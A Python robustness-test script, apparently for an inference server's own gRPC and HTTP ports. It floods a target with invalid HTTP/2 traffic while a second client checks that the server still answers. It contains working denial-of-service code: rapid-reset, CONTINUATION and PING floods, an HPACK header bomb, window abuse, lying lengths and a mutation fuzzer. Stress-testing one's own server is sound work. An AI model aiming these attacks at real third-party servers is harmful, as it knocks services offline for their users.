"""Attack a port with invalid HTTP/2, and check that other clients are served meanwhile.

    python -m scripts.http2_attacks 127.0.0.1:8001 --seeds 8000
    python -m scripts.http2_attacks 127.0.0.1:8000 --http

Each attack uses its own connections. Another client checks before, during and after the attacks that the server is
live; its longest response time is reported. The exit status is 1 if a check failed.
"""
from __future__ import annotations

import argparse
import random
import socket
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing, contextmanager, suppress
from dataclasses import dataclass
from functools import partial
from http.client import HTTPConnection, HTTPException

import grpc

from infer_server import protos
from infer_server.protos.grpc_framing import prefix_of
from infer_server.protos.http2 import NGH2Error, client_connection


@dataclass(frozen=True)
class Port:
    """Requests for one kind of port, gRPC or HTTP."""
    live: str
    infer: str
    fields: tuple[tuple[str, str], ...]     # headers of a request
    live_method: str = "POST"


_SERVICE = f"/{protos.INFERENCE_SERVICE}"
GRPC = Port(f"{_SERVICE}/ServerLive", f"{_SERVICE}/ModelInfer", (
    ("te", "trailers"), ("content-type", "application/grpc")))
HTTP = Port("/v2/health/live", "/v2/models/m/infer", (("content-type", "application/json"),), "GET")
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _PRIORITY, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW, _CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_SECS = 20.0                        # time for the server to close a connection or to respond
_SEND_SECS = 3.0                    # time for the server to take a piece of an attack


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name: str, value: str) -> bytes:
    """Encode a header field without indexing and without compression."""
    return b"\0" + b"".join(_length(len(text)) + text.encode() for text in (name, value))


def _length(number: int) -> bytes:
    if number < 127:
        return bytes((number,))
    encoded, number = bytearray(b"\x7f"), number - 127
    while number > 127:
        encoded.append(number & 127 | 128)
        number >>= 7
    encoded.append(number)
    return bytes(encoded)


def fields_of(port: Port, path: str) -> tuple[tuple[str, str], ...]:
    return ((":method", port.live_method if path == port.live else "POST"), (":scheme", "http"), (":path", path),
            (":authority", "x"), *port.fields)


def request_block(port: Port, path: str = "") -> bytes:
    """Return the header block of an inference, or of a request for another path."""
    return b"".join(literal(*each) for each in fields_of(port, path or port.infer))


Pieces = Iterator[bytes]
Attack = Callable[[Port], Pieces]


def rapid_reset(port: Port) -> Pieces:
    block = request_block(port)
    for first in range(1, 100_000, 200):
        yield b"".join(frame(_HEADERS, _END_HEADERS, stream, block) + frame(_RST, 0, stream, bytes(4))
                       for stream in range(first, first + 200, 2))


def continuation_flood(port: Port) -> Pieces:
    yield frame(_HEADERS, 0, 1, request_block(port))
    for _ in range(2000):
        yield frame(_CONTINUATION, 0, 1, literal("a", "b" * 1000))


def settings_flood(port: Port) -> Pieces:
    for _ in range(200):
        yield frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 500


def ping_flood(port: Port) -> Pieces:
    for _ in range(200):
        yield frame(_PING, 0, 0, bytes(8)) * 500


def priority_storm(port: Port) -> Pieces:
    for _ in range(200):
        yield b"".join(frame(_PRIORITY, 0, stream, struct.pack(">IB", 0, 9)) for stream in range(1, 1001, 2))


def header_bomb(port: Port) -> Pieces:
    """Yield blocks that add a 4000-byte entry to HPACK's table and refer to it 10,000 times (40 MB each)."""
    entry = b"\x40" + _length(1) + b"a" + _length(4000) + b"b" * 4000
    for stream in range(1, 21, 2):
        yield frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, request_block(port) + entry + b"\xbe" * 10_000)


def many_streams(port: Port) -> Pieces:
    block = request_block(port)
    for first in range(1, 40_000, 1000):
        yield b"".join(frame(_HEADERS, _END_HEADERS, stream, block) for stream in range(first, first + 1000, 2))


def zero_windows(port: Port) -> Pieces:
    """Yield calls on a connection whose window of 0 lets no answer through."""
    yield frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    block = request_block(port, port.live)
    for first in range(1, 10_000, 1000):
        yield b"".join(frame(_HEADERS, _END_HEADERS, stream, block) + frame(_DATA, _END_STREAM, stream, prefix_of(0))
                       for stream in range(first, first + 1000, 2))


def window_overflow(port: Port) -> Pieces:
    yield frame(_WINDOW, 0, 0, struct.pack(">I", (1 << 31) - 1)) * 2


def lying_lengths(port: Port) -> Pieces:
    """Yield messages that announce 4 GB."""
    block = request_block(port) + (literal("content-length", "4294967295") if port is HTTP else b"")
    for stream in range(1, 2001, 2):
        yield frame(_HEADERS, _END_HEADERS, stream, block) + frame(_DATA, 0, stream, prefix_of(0xFFFFFFFF) + bytes(999))


def goaways(port: Port) -> Pieces:
    for _ in range(100):
        yield frame(_GOAWAY, 0, 0, struct.pack(">II", 0, 0)) + frame(_HEADERS, _END_HEADERS, 1, request_block(port))


def slow_bodies(port: Port) -> Pieces:
    """Yield the bodies of 200 requests byte by byte."""
    streams = range(1, 401, 2)
    yield b"".join(frame(_HEADERS, _END_HEADERS, stream, request_block(port)) for stream in streams)
    for _ in range(20):
        yield b"".join(frame(_DATA, 0, stream, b"{") for stream in streams)


ATTACKS: tuple[Attack, ...] = (
    rapid_reset, continuation_flood, settings_flood, ping_flood, priority_storm, header_bomb, many_streams,
    zero_windows, window_overflow, lying_lengths, slow_bodies, goaways)


# Attacks at which the server closes the connection, however busy the machine is.
CLOSED: frozenset[Attack] = frozenset((continuation_flood, settings_flood, ping_flood, window_overflow))


def attack(connection: socket.socket, pieces: Pieces) -> str:
    """Send the pieces on a connection without reading. Returns how that ended; "": everything was sent."""
    try:
        connection.sendall(_PREFACE + frame(_SETTINGS, 0, 0))
        for piece in pieces:
            connection.sendall(piece)
    except TimeoutError:
        return "the server takes no more"
    except OSError:
        return "closed while it was sent"
    return ""


def end_of(connection: socket.socket, until: float) -> str:
    """Read until the server closes the connection, or until a time. Returns "closed" or "open"."""
    try:
        while (left := until - time.monotonic()) > 0:
            connection.settimeout(left)
            if not connection.recv(1 << 16):
                return "closed"
    except TimeoutError:
        pass
    except OSError:                 # reset: the server closed the connection before it read everything
        return "closed"
    return "open"


def attack_all(address: tuple[str, int], port: Port, attacks: tuple[Attack, ...], linger_secs: float) -> Counter[str]:
    """Run attacks one after another, then wait for all connections at once. Returns how they ended."""
    with ExitStack() as stack:
        connections, sent = [], []
        for each in attacks:
            connections.append(stack.enter_context(closing(socket.create_connection(address, _SEND_SECS))))
            sent.append(attack(connections[-1], each(port)))
        began = time.monotonic()
        return Counter(
            f"{each.__name__}: {how or end_of(connection, began + (_SECS if each in CLOSED else linger_secs))}"
            for connection, each, how in zip(connections, attacks, sent, strict=True))


def exchange(port: Port, message: bytes) -> bytes:
    """Return the bytes that a client sends on a connection with three requests."""
    client = client_connection(1 << 20)
    sent = client.data_to_send()
    for path in (port.live, port.infer, port.live):
        stream = client.send_request([(name.encode(), value.encode()) for name, value in fields_of(port, path)])
        with suppress(NGH2Error):
            client.send_data(stream, message if port is HTTP else prefix_of(len(message)) + message, end_stream=True)
        sent += client.data_to_send()
    return sent


def mutated(data: bytes, rng: random.Random) -> bytes:
    """Return the data truncated, or with bytes changed, inserted, removed or repeated."""
    at = rng.randrange(len(data))
    kind = rng.randrange(5)
    if kind == 0:
        return data[:at]
    if kind == 1:
        return data[:at] + bytes((rng.randrange(256),)) + data[at + 1:]
    if kind == 2:
        return data[:at] + rng.randbytes(rng.randrange(1, 40)) + data[at:]
    end = min(len(data), at + rng.randrange(1, 60))
    return data[:at] + data[end:] if kind == 3 else data[:end] + data[at:]


class Watcher(threading.Thread):
    """Client that continuously checks that the server is live."""

    def __init__(self, port: Port, address: str) -> None:
        super().__init__(daemon=True)
        self._port, self._address, self._stopping = port, address, threading.Event()
        self.answered, self.slowest_secs, self.failure = 0, 0.0, ""

    def run(self) -> None:
        with self._requesting() as send:
            while not self._stopping.is_set():
                began = time.monotonic()
                try:
                    send()
                except (grpc.RpcError, OSError, HTTPException) as error:
                    self.failure = repr(error)
                    return
                self.answered += 1
                self.slowest_secs = max(self.slowest_secs, time.monotonic() - began)
                self._stopping.wait(0.01)

    @contextmanager
    def _requesting(self) -> Iterator[Callable[[], object]]:
        if self._port is GRPC:
            with grpc.insecure_channel(self._address) as channel:
                yield partial(channel.unary_unary(self._port.live), b"", timeout=_SECS)
            return

        def send() -> None:
            connection.request("GET", self._port.live)
            with connection.getresponse() as response:
                if response.status != 200:
                    raise HTTPException(f"status {response.status}")
                response.read()

        with closing(HTTPConnection(self._address, timeout=_SECS)) as connection:
            yield send

    def stop(self) -> None:
        self._stopping.set()
        self.join(2 * _SECS)


def run(address: str, seeds: int, first_seed: int = 0, attacks: tuple[Attack, ...] = ATTACKS, port: Port = GRPC,
        linger_secs: float = 3.0) -> tuple[Counter[str], Watcher]:
    """Run all attacks, and `seeds` connections whose bytes are mutated. Returns how these ended, and the watcher."""
    host, _, number = address.rpartition(":")
    where = host, int(number)
    watcher = Watcher(port, address)
    watcher.start()
    seen = attack_all(where, port, attacks, linger_secs)
    message = b"\x0a\x01m"
    for seed in range(first_seed, first_seed + seeds):
        rng = random.Random(seed)
        data = mutated(exchange(port, message), rng)
        with closing(socket.create_connection(where, timeout=_SECS)) as connection, suppress(OSError):
            while data:
                size = rng.choice((1, 9, 100, len(data)))
                connection.sendall(data[:size])
                data = data[size:]
            if rng.random() < 0.5:
                connection.shutdown(socket.SHUT_WR)
                while connection.recv(1 << 16):
                    pass
        seen["mutated connections"] += 1
    watcher.stop()
    return seen, watcher


def main() -> int:
    parser = argparse.ArgumentParser("scripts.http2_attacks", description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("address", metavar="HOST:PORT")
    parser.add_argument("--http", action="store_true", help="it is an HTTP port")
    parser.add_argument("--seeds", type=int, default=8000)
    parser.add_argument("--seed", type=int, default=0, help="the first one")
    options = parser.parse_args()
    seen, watcher = run(options.address, options.seeds, options.seed, port=HTTP if options.http else GRPC)
    for what, count in sorted(seen.items()):
        print(f"{count:6} {what}")
    print(f"{watcher.answered} answers to another client meanwhile, the slowest after {watcher.slowest_secs:.3f} s")
    if watcher.failure:
        print(f"another client failed: {watcher.failure}", file=sys.stderr)
    return 1 if watcher.failure else 0


if __name__ == "__main__":
    sys.exit(main())
